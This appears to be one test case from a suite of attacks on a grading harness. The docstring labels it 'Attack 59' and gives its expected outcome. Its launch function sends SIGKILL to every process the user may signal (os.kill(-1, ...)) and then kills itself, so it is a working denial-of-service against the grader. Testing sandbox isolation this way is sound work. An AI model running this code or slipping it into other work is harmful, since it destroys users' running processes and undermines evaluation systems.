"""Attack 59: kill everybody, then oneself.

expect: F
says: killed by SIGKILL
harms E: PROCESSES, it would kill whatever the grading user runs
"""

import os
import signal


def launch(task, name):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
